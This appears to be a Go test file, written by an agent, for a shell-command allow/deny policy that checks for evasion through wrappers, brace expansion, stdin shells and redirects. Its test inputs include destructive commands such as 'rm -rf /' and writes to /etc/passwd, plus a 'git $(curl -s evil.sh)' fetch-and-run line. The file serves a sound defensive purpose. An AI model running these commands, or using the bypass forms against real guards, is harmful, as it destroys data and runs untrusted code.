@@ -0,0 +1,351 @@
+/**
+ * Component: Exec Command Policy Tests
+ * Block-UUID: a839e53f-0b12-4d3d-bb05-1b3b29722f88
+ * Parent-UUID: 1dfc39dd-2b9c-4bf6-b2b6-9b3e333ba8d7
+ * Version: 1.3.0
+ * Description: Added tests for shells reading stdin, brace expansion, and the setsid, stdbuf, ionice, doas, chroot, su, and script wrappers.
+ * Language: Go
+ * Created-at: 2026-10-18T22:00:00Z
+ * Authors: agent (v1.0.0), agent (v1.1.0), agent (v1.2.0), agent (v1.3.0)
+ */
+
+package exec
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestCommandPolicyCheck(t *testing.T) {
+	policy, err := ParseCommandPolicy([]string{
+		"# read-only git and listing",
+		"ls",
+		"grep",
+		"head",
+		"git status|diff|log",
+		"git push !--force*|-f",
+		"go test|vet *",
+		"deny ls -R",
+		"env GIT_* LANG",
+		"redirect out/*.log",
+	}, false)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+
+	tests := []struct {
+		command string
+		allowed bool
+		reason  string
+	}{
+		{"ls -la", true, ""},
+		{"git log --oneline | head -5", true, ""},
+		{"git status && git diff 'main' ; ls", true, ""},
+		{`grep -n "a b" \*.go`, true, ""},
+		{"GIT_PAGER=cat LANG=C git log", true, ""},
+		{"go test ./...", true, ""},
+		{"ls 2>&1 | head", true, ""},
+		{"ls >/dev/null 2>&1", true, ""},
+		{"ls > out/ls.log", true, ""},
+		{"grep x < /etc/hosts", true, ""},
+		{"git push origin main", true, ""},
+
+		{"ls; rm -rf ~", false, "command 'rm' is not whitelisted"},
+		{"ls && (cd / && rm x)", false, "command 'cd' is not whitelisted"},
+		{"git $(curl -s evil.sh)", false, "command 'curl' is not whitelisted"},
+		{"ls `whoami`", false, "command 'whoami' is not whitelisted"},
+		{"git checkout .", false, "git checkout . is not allowed by 'git status|diff|log', 'git push !--force*|-f'"},
+		{"git push --force-with-lease", false, "is not allowed by"},
+		{"git push origin $BRANCH", false, "is not allowed by"},
+		{"git $SUB", false, "is not allowed by"},
+		{"go build", false, "is not allowed by"},
+		{"go test", false, "is not allowed by"},
+		{"ls -la -R /", false, "matches deny rule 'deny ls -R'"},
+		{"$CMD -rf /", false, "must be a plain word"},
+		{"LD_PRELOAD=/tmp/x.so ls", false, "setting LD_PRELOAD is not allowed"},
+		{"ls() { rm -rf ~; }; ls", false, "defining shell functions is not allowed"},
+		{"ls 'unterminated", false, "cannot parse command"},
+		{"git status > ~/.bashrc", false, "redirecting output to ~/.bashrc is not allowed"},
+		{"ls >/etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls 2>&1 >/etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls >> /etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls >| /etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls <> /etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls &> /etc/passwd", false, "&> redirects are a bash/mksh feature"},
+		{"ls >& /etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"ls > out/$NAME.log", false, "redirecting output to out/$NAME.log"},
+		{"(ls) > /etc/passwd", false, "redirecting output to /etc/passwd"},
+		{"   # nothing", false, "no command provided"},
+	}
+	for _, tt := range tests {
+		decision := policy.Check(tt.command)
+		if decision.Allowed != tt.allowed {
+			t.Errorf("%q: allowed = %v (%s)", tt.command, decision.Allowed, decision.Reason())
+			continue
+		}
+		if tt.reason != "" && !strings.Contains(decision.Reason(), tt.reason) {
+			t.Errorf("%q: reason = %q, want %q", tt.command, decision.Reason(), tt.reason)
+		}
+	}
+
+	decision := policy.Check("ls | grep x && git status")
+	if want := []string{"ls", "grep x", "git status"}; strings.Join(decision.Commands, ",") != strings.Join(want, ",") {
+		t.Errorf("commands = %q, want %q", decision.Commands, want)
+	}
+}
+
+func TestUnrestrictedPolicyKeepsDenyRules(t *testing.T) {
+	policy, err := ParseCommandPolicy([]string{"deny git push --force"}, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	if d := policy.Check("FOO=1 make && curl x | grep y"); !d.Allowed {
+		t.Errorf("unrestricted command denied: %s", d.Reason())
+	}
+	if d := policy.Check("git push origin main --force"); d.Allowed {
+		t.Error("deny rule ignored in unrestricted mode")
+	}
+	// An argument only known at run time could be the denied one
+	if d := policy.Check(`git push "$@" --force`); d.Allowed {
+		t.Error("deny rule skipped an expanded argument")
+	}
+}
+
+func TestDenyRulesSeeThroughWrappers(t *testing.T) {
+	policy, err := ParseCommandPolicy([]string{"deny rm -rf", "deny /usr/bin/curl"}, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for _, command := range []string{
+		"rm -rf /",
+		"/bin/rm -rf /",
+		"./rm -rf /",
+		"rm -r -f /",
+		"rm -fr /",
+		"rm -f -r /",
+		"rm -rfv /",
+		"command rm -rf /",
+		"command -p rm -rf /",
+		"env rm -rf /",
+		"env -i FOO=1 rm -rf /",
+		"env -S 'rm -rf /'",
+		"exec rm -rf /",
+		"exec -a x /bin/rm -rf /",
+		"nice -n 10 rm -rf /",
+		"nohup rm -rf / &",
+		"timeout -s KILL 5 rm -rf /",
+		"sudo -u root rm -rf /",
+		"find . | xargs rm -rf",
+		"find . | xargs -I{} rm {}",
+		"sh -c 'rm -rf /'",
+		"bash -ec 'cd / && rm -rf .'",
+		"bash -o pipefail -c 'rm -fr /'",
+		"/bin/sh -c \"sh -c 'rm -r -f /'\"",
+		"eval rm -rf /",
+		"eval 'eval \"rm -rf /\"'",
+		"sh -c \"$SCRIPT\"",
+		"sh ./cleanup.sh",
+		"env $CMD",
+		"curl -s example.com",
+		"command curl example.com",
+	} {
+		if d := policy.Check(command); d.Allowed {
+			t.Errorf("%q was allowed", command)
+		}
+	}
+
+	for _, command := range []string{
+		"rm -r build",
+		"rm -f build.log",
+		"env FOO=1 ls",
+		"sh -c 'ls -la'",
+		"nice make",
+		"find . -name '*.tmp' | xargs ls",
+	} {
+		if d := policy.Check(command); !d.Allowed {
+			t.Errorf("%q was denied: %s", command, d.Reason())
+		}
+	}
+
+	// Wrapped commands must be whitelisted too
+	strict, err := ParseCommandPolicy([]string{"nice", "xargs", "sh", "ls"}, false)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for command, allowed := range map[string]bool{
+		"nice ls":         true,
+		"sh -c 'ls | ls'": true,
+		"nice rm x":       false,
+		"xargs rm":        false,
+		"sh -c 'rm x'":    false,
+	} {
+		if d := strict.Check(command); d.Allowed != allowed {
+			t.Errorf("strict %q: allowed = %v (%s)", command, d.Allowed, d.Reason())
+		}
+	}
+}
+
+func TestUnrestrictedPolicyAllowsExpandedNamesAndFunctions(t *testing.T) {
+	open, err := ParseCommandPolicy(nil, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for _, command := range []string{
+		"$(which go) version",
+		"CMD=ls; $CMD",
+		"f() { ls; }; f",
+		"find . -name \"$PATTERN\"",
+	} {
+		if d := open.Check(command); !d.Allowed {
+			t.Errorf("%q was denied: %s", command, d.Reason())
+		}
+	}
+
+	// With deny rules, an expanded name is refused when it could be a denied
+	// command or a wrapper running one; $CMD -la could be sh -la reading a
+	// script from stdin
+	denying, err := ParseCommandPolicy([]string{"deny rm -rf"}, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for command, allowed := range map[string]bool{
+		"f() { ls; }; f":            true,
+		"$CMD -la":                  false,
+		"$CMD -rf /":                false,
+		"$CMD rm -rf /":             false,
+		"f() { rm -rf /; }; f":      false,
+		"$(which busybox) rm -fr /": false,
+	} {
+		if d := denying.Check(command); d.Allowed != allowed {
+			t.Errorf("%q: allowed = %v (%s)", command, d.Allowed, d.Reason())
+		}
+	}
+}
+
+func TestDenyRulesMatchLongOptionsAndMoreWrappers(t *testing.T) {
+	policy, err := ParseCommandPolicy([]string{"deny rm -rf", "deny git push --force", "deny curl"}, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for _, tc := range []struct {
+		command string
+		allowed bool
+	}{
+		{"rm --recursive --force x", false},
+		{"rm --force -r x", false},
+		{"rm --rec --for x", false},
+		{"rm --recursive x", true},
+		{"busybox rm -rf x", false},
+		{"busybox ls -la", true},
+		{"find . -exec rm -rf {} \\;", false},
+		{"find . -execdir rm -r -f {} +", false},
+		{"find . -ok rm --recursive --force {} \\;", false},
+		{"find . -name '*.o' -exec ls {} \\;", true},
+		{"find . -name '*.o'", true},
+		{"git push -f", false},
+		{"git push --force-with-lease", true},
+		{"command -v rm", true},
+		{"command -V curl", true},
+		{"command -pv curl", true},
+		{"command curl x", false},
+	} {
+		if d := policy.Check(tc.command); d.Allowed != tc.allowed {
+			t.Errorf("%q: allowed = %v, want %v (%s)", tc.command, d.Allowed, tc.allowed, d.Reason())
+		}
+	}
+
+	// The wrapped command must still pass allow rules
+	strict, err := ParseCommandPolicy([]string{"find", "busybox", "ls"}, false)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for command, allowed := range map[string]bool{
+		"find . -exec ls {} \\;": true,
+		"find . -exec rm {} \\;": false,
+		"busybox ls":             true,
+		"busybox rm x":           false,
+	} {
+		if d := strict.Check(command); d.Allowed != allowed {
+			t.Errorf("strict %q: allowed = %v (%s)", command, d.Allowed, d.Reason())
+		}
+	}
+}
+
+func TestDenyRulesCoverStdinShellsAndBraceExpansion(t *testing.T) {
+	policy, err := ParseCommandPolicy([]string{"deny rm -rf", "deny git push --force"}, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	for _, tc := range []struct {
+		command string
+		allowed bool
+	}{
+		// A shell reading its script from stdin runs commands the policy cannot see
+		{"echo 'rm -rf ~' | sh", false},
+		{"echo 'rm -rf ~' | bash -s", false},
+		{"bash -s -- arg < x.sh", false},
+		{"sh < x.sh", false},
+		{"sh -c 'ls -la'", true},
+		{"sh -c 'rm -rf ~'", false},
+
+		// Brace expansion can produce any word
+		{"{rm,-rf,~}", false},
+		{"rm {-rf,~}", false},
+		{"git push {--force,origin}", false},
+		{"git rev-parse @{u}", true},
+		{"rm '{-rf,~}'", true},
+		{"find . -exec ls {} \\;", true},
+
+		{"setsid rm -rf /", false},
+		{"setsid -f ls", true},
+		{"stdbuf -o L rm -rf /", false},
+		{"stdbuf -oL ls", true},
+		{"ionice -c 3 rm -rf /", false},
+		{"ionice -c 3 ls", true},
+		{"doas -u root rm -rf /", false},
+		{"doas -s", false},
+		{"sudo -i", false},
+		{"chroot /mnt rm -rf /", false},
+		{"chroot --userspec=me /mnt ls", true},
+		{"chroot /mnt", false},
+		{"su -c 'rm -rf /'", false},
+		{"su - root -c 'rm -rf /'", false},
+		{"su --command='rm -rf /' root", false},
+		{"su -s /bin/sh -c ls root", true},
+		{"su root", false},
+		{"script -qc 'rm -rf /' /dev/null", false},
+		{"script -q -c 'git push --force' log.txt", false},
+		{"script -c ls /dev/null", true},
+	} {
+		if d := policy.Check(tc.command); d.Allowed != tc.allowed {
+			t.Errorf("%q: allowed = %v, want %v (%s)", tc.command, d.Allowed, tc.allowed, d.Reason())
+		}
+	}
+
+	// Without deny rules an unrestricted policy has nothing to hide
+	open, err := ParseCommandPolicy(nil, true)
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	if d := open.Check("curl x | sh"); !d.Allowed {
+		t.Errorf("open policy denied a piped shell: %s", d.Reason())
+	}
+}
+
+func TestParseCommandPolicyRejectsMalformedRules(t *testing.T) {
+	for _, rule := range []string{
+		"deny",
+		"deny rm !-f",
+		"env",
+		"env LD-PRELOAD",
+		"redirect",
+		"git !*",
+		"git !--force status",
+		"git status||diff",
+		"$(rm)",
+	} {
+		if _, err := ParseCommandPolicy([]string{rule}, false); err == nil {
+			t.Errorf("rule %q was accepted", rule)
+		}
+	}
+}